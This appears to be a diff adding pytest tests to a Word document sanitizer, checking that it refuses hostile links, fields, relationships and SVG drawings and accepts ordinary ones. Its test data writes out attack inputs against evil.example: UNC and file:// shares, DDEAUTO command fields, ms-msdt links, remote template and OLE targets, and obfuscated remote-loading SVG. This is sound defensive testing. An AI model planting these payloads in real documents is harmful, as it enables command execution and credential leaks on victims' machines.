@@ -97,8 +97,28 @@ def test_links_to_click_are_taken(target):
     check_word(docx({"word/_rels/document.xml.rels": relationship("hyperlink", target)}))
 
 
-@pytest.mark.parametrize("target", ["javascript:alert(1)", "ms-msdt:/id", " JavaScript:x", "search-ms:query=x"])
-def test_a_link_that_starts_a_program_is_refused(target):
+@pytest.mark.parametrize(
+    "target", ["file:///C:/Users/asha/letter.docx", "file://localhost/tmp/x", "letters/x.docx", "#_Toc1"]
+)
+def test_a_link_to_a_file_of_the_authors_own_disk_is_taken(target):
+    check_word(docx({"word/_rels/document.xml.rels": relationship("hyperlink", target)}))
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "javascript:alert(1)",
+        "ms-msdt:/id",
+        " JavaScript:x",
+        "search-ms:query=x",
+        "file://evil.example/share/a",
+        "FILE:////evil.example/share/a",
+        "file:///%5C%5Cevil.example%5Cshare",
+        "\\\\evil.example\\share\\a",
+        "//evil.example/share/a",
+    ],
+)
+def test_a_link_that_starts_a_program_or_opens_a_file_of_a_server_is_refused(target):
     rels = relationship("hyperlink", target)
 
     assert reason_of(docx({"word/_rels/document.xml.rels": rels})) == Reason.WORD_PROGRAMS
@@ -180,6 +200,105 @@ def test_ordinary_fields_are_taken(content):
 )
 def test_programs_and_other_files_are_refused(document):
     assert reason_of(document) == Reason.WORD_PROGRAMS
+
+
+#: A namespace of nobody, which every program that opens documents may pass over.
+FOREIGN = 'xmlns:x="urn:nobody" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x"'
+
+
+@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "aFChunk"])
+@pytest.mark.parametrize(
+    "before",
+    [
+        f'x:Type="{RELATIONSHIPS}/hyperlink"',
+        'x:Target="Normal.dotm"',
+        'x:TargetMode="Internal"',
+        f'type="{RELATIONSHIPS}/hyperlink"',
+        'target="media/image1.png" targetMode="Internal"',
+    ],
+)
+def test_a_foreign_attribute_hides_no_relationship(kind, before):
+    rels = (
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" {FOREIGN}>'
+        f'<Relationship Id="rId1" {before} Type="{RELATIONSHIPS}/{kind}" Target="http://evil.example/t"'
+        ' TargetMode="External"/></Relationships>'
+    )
+
+    assert reason_of(docx({"word/_rels/document.xml.rels": rels})) in (Reason.WORD_LOADS, Reason.WORD_PROGRAMS)
+
+
+BEGIN, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        '<w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/>',
+        '<w:fldSimple instr="PAGE" w:instr="DDEAUTO cmd"/>',
+        f"{BEGIN}<x:instrText>PAGE </x:instrText><w:instrText>DDEAUTO cmd</w:instrText>{END}",
+        f"{BEGIN}<w:instrtext>PAGE </w:instrtext><w:instrText>DDEAUTO cmd</w:instrText>{END}",
+        f'{BEGIN}<w:instrText>DD</w:instrText><x:fldChar w:fldCharType="end"/><w:instrText>E x</w:instrText>{END}',
+        f'{BEGIN}<w:instrText>DD</w:instrText><w:fldChar x:fldCharType="end"/><w:instrText>E x</w:instrText>{END}',
+        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" x:src="media/a.png" src="http://evil.example/a"/>',
+        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="a.png" x:href="http://evil.example/a"/>',
+    ],
+)
+def test_a_foreign_element_or_attribute_hides_no_field_and_no_picture(content):
+    body = f'<w:document xmlns:w="{NAMESPACE}" {FOREIGN}><w:body>{content}</w:body></w:document>'
+
+    assert reason_of(docx(body=body)) == Reason.WORD_LOADS
+
+
+def test_a_second_word_about_a_part_hides_no_program():
+    types = WIDE.format(name="code.bin", type="application/vnd.ms-office.vbaProject")
+    twice = types + WIDE.format(name="code.bin", type="image/png")
+
+    assert reason_of(docx({"word/code.bin": b"macro"}, types=twice)) == Reason.NOT_WORD
+
+
+@pytest.mark.parametrize("address", ['"file://evil.example/share/a"', '\\\\l "\\\\\\\\evil.example\\\\share"'])
+def test_a_field_that_leads_to_a_file_of_a_server_is_refused(address):
+    assert reason_of(docx(content=field(f"HYPERLINK {address}"))) == Reason.WORD_PROGRAMS
+
+
+def drawing(content: str, before: str = "") -> bytes:
+    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+    types = '<Default Extension="svg" ContentType="image/svg+xml"/>'
+    return docx({"word/media/image1.svg": f"{before}<svg {names}>{content}</svg>"}, types=types)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        '<image xlink:href="http://evil.example/a.png"/>',
+        '<image href="//evil.example/a.png"/>',
+        '<use href="https://evil.example/a.svg#x"/>',
+        '<rect fill="url(http://evil.example/a.svg#x)"/>',
+        "<rect style=\"fill: url( 'https://evil.example/a')\"/>",
+        "<style>@import 'http://evil.example/a.css';</style>",
+        "<style>rect {fill: url(ht<!-- -->t&#112;://evil.example/a)}</style>",
+        "<style>rect {fill: u\\72l(x)}</style>",
+        '<set attributeName="href" to="http://evil.example/a"/>',
+        '<g xml:base="http://evil.example/"><image href="a.png"/></g>',
+    ],
+)
+def test_a_drawing_that_loads_something_is_refused(content):
+    assert reason_of(drawing(content)) in (Reason.WORD_LOADS, Reason.WORD_PROGRAMS)
+
+
+def test_a_drawing_with_a_program_or_a_style_of_elsewhere_is_refused():
+    assert reason_of(drawing("<script>x</script>")) == Reason.WORD_PROGRAMS
+    assert reason_of(drawing("", '<?xml-stylesheet href="http://evil.example/a.css"?>')) == Reason.WORD_LOADS
+
+
+def test_an_ordinary_drawing_is_taken():
+    check_word(
+        drawing(
+            "<style>rect {fill: url(#shade)}</style><metadata>http://creativecommons.org/</metadata>"
+            '<a href="https://example.org/"><rect style="fill:#fff;stroke:none" fill="url(#shade)"/></a>'
+            '<image xlink:href="data:image/png;base64,AAAA//8="/>'
+        )
+    )
 
 
 def test_foreign_content_is_refused_by_its_relationship_alone():
